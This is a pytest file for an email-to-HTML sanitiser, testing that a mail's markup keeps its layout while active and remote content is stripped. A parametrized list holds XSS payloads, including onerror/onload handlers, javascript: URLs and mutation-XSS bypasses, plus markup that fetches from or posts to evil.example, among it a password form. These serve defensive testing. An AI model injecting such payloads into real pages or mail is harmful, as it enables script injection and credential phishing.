"""A mail's own markup, made safe to look at."""

from email.message import EmailMessage

import pytest

from ingest.mail_page import mail_html


def mail(markup: str, *, picture: bytes | None = None) -> bytes:
    message = EmailMessage()
    message["From"] = "li@example.com"
    message["Subject"] = "楼道垃圾"
    message.set_content("楼道垃圾没人清理")
    message.add_alternative(markup, subtype="html")
    if picture is not None:
        message.get_payload()[1].add_related(picture, "image", "png", cid="<pic@example.com>")
    return message.as_bytes()


def test_words_and_layout_stay():
    shown = mail_html(mail("<table><tr><td colspan=2>房号<b>501</b></td></tr></table>"))
    assert shown is not None
    assert '<td colspan="2">房号<b>501</b></td>' in shown


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<p style='background:url(http://evil.example/x)' onclick='alert(1)'>x</p>",
        "<style>@import url(http://evil.example/x);</style>",
        "<link rel=stylesheet href=http://evil.example/x>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<form action=http://evil.example/><input name=password><button>登录</button></form>",
        "<object data=http://evil.example/></object><embed src=http://evil.example/>",
        "<base href=http://evil.example/>",
        "<video src=http://evil.example/ poster=http://evil.example/></video>",
        "<table background=http://evil.example/><tr><td background=http://evil.example/>x</table>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    ],
)
def test_nothing_acts_and_nothing_is_fetched(markup):
    shown = mail_html(mail(f"<html><body><p>您好</p>{markup}</body></html>")) or ""
    assert "您好" in shown
    for harm in ("<script", " onerror=", "onload", "onclick", "<iframe", "<form", "<input", "<link", "<meta", "<svg"):
        assert harm not in shown.lower()
    for tag in ("src=", "href=", "background=", "style=", "action=", "poster=", "data="):
        assert f"{tag}http" not in shown
        assert f'{tag}"http' not in shown


def test_a_link_becomes_its_words_with_the_address_to_be_seen():
    shown = mail_html(mail('<p>请看<a href="http://phish.example/?u=1">物业官网</a></p>'))
    assert shown is not None
    assert shown.strip() == '<p>请看物业官网<span class="link-address">〔http://phish.example/?u=1〕</span></p>'


def test_a_picture_that_the_mail_carries_is_shown_and_one_from_afar_is_named():
    shown = mail_html(
        mail(
            '<img src="cid:pic@example.com" alt="现场"><img src="http://evil.example/p.gif" alt="logo">',
            picture=b"\x89PNG",
        )
    )
    assert shown is not None
    assert '<img src="data:image/png;base64,iVBORw==" alt="现场">' in shown
    assert '<span class="no-picture">〔图片：logo〕</span>' in shown


def test_a_picture_in_the_mail_that_is_a_page_is_not_shown():
    assert "data:" not in (mail_html(mail('<img src="data:text/html;base64,PHNjcmlwdD4=">')) or "")
    assert "data:" not in (mail_html(mail('<img src="data:image/svg+xml;base64,PHN2Zz4=">')) or "")


def test_a_plain_mail_has_no_page():
    assert mail_html(b"From: a@example.com\r\nSubject: x\r\n\r\ntext") is None


def test_what_is_no_mail_has_no_page():
    assert mail_html(b"\xd0\xcf\x11\xe0" * 50) is None
